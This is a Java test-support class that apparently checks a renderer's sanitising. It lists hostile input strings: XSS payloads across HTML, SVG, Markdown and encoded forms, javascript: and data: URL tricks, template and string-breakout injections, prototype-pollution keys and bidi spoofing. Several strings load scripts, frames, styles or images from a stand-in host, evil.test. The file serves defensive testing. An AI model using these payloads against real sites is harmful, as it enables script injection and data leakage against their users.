package io.agentstream.examples.it;

import java.util.List;

/**
 * What somebody might say, be called or ask who is up to no good. Whatever runs calls {@code
 * canary()}.
 */
final class HostileStrings {

  static final List<String> ALL =
      List.of(
          "<script>canary()</script>",
          "<script src=http://evil.test/a.js></script>",
          "</script><script>canary()</script>",
          "<img src=x onerror=canary()>",
          "<img src=//evil.test/a.png>",
          "\"><img src=x onerror=canary()>",
          "'><b onmouseover=canary()>x</b>",
          "<body onload=canary()>",
          "<input autofocus onfocus=canary()>",
          "<details open ontoggle=canary()>",
          "<svg onload=canary()>",
          "<svg><script>canary()</script></svg>",
          "<svg><a xlink:href=javascript:canary()><text y=20>x</text></a></svg>",
          "<svg><use href=data:image/svg+xml,x></use></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
          "<math href=javascript:canary()>x</math>",
          "<iframe src=http://evil.test></iframe>",
          "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
          "<object data=http://evil.test/a.swf></object>",
          "<embed src=http://evil.test/a.swf>",
          "<meta http-equiv=refresh content='0;url=http://evil.test'>",
          "<base href=http://evil.test/>",
          "<link rel=stylesheet href=http://evil.test/a.css>",
          "<style>@import 'http://evil.test/a.css';</style>",
          "<style>body{background:url(http://evil.test/b)}</style>",
          "<div style='background:url(http://evil.test/c)'>x</div>",
          "<form action=http://evil.test><button>x</button></form>",
          "<template shadowrootmode=open><script>canary()</script></template>",
          "<video src=http://evil.test/v poster=http://evil.test/p></video>",
          "![a](http://evil.test/a.png)",
          "![a](//evil.test/b.png)",
          "![a](data:image/svg+xml,<svg/onload=canary()>)",
          "![\"onerror=canary()](x)",
          "[a](javascript:canary())",
          "[a](JaVa\tScRiPt:canary())",
          "[a](java&#115;cript:canary())",
          "[a](&#x6A;avascript&colon;canary())",
          "[a](data:text/html,<script>canary()</script>)",
          "[a](vbscript:canary())",
          "[a](blob:http://evil.test/x)",
          "[a](http://evil.test \"onmouseover=canary()\")",
          "[x]: javascript:canary()\n\n[x] and ![x]",
          "<javascript:canary()> and <data:text/html,x>",
          "<!--><script>canary()</script>-->",
          "<![CDATA[<script>canary()</script>]]>",
          "<a href=\"javascript:canary()\">x</a>",
          "| a |\n|---|\n| <img src=x onerror=canary()> |",
          "```html onload=canary()\n<script>canary()</script>\n```",
          "&lt;script&gt;canary()&lt;/script&gt;",
          "&#60;img src=x onerror=canary()&#62;",
          "\\u003cimg src=x onerror=\\u0063anary()\\u003e",
          "\uFF1Cscript\uFF1Ecanary()\uFF1C/script\uFF1E",
          "<\u0000script>canary()</script>",
          "${canary()} {{canary()}} `${canary()}`",
          "'+canary()+'",
          "');canary();//",
          "<a id=transcript></a><form id=dock name=body></form>",
          "<img name=getElementById><img id=announcer>",
          "<script nonce=x>trustedTypes.createPolicy('p',{createHTML:x=>x});canary()</script>",
          "trustedTypes.defaultPolicy",
          "__proto__",
          "constructor",
          "toString",
          "{\"__proto__\":{\"hidden\":true}}",
          "\u202Efdp.eciovni\u202C",
          "\u2066\u202E)(yranac\u2069",
          "\uD83D\uDE00\u200D\u200B\uFEFFZ\u0335\u0327\u0334\u0322\u0310",
          "W".repeat(600),
          "\u6587".repeat(600));

  private HostileStrings() {}
}
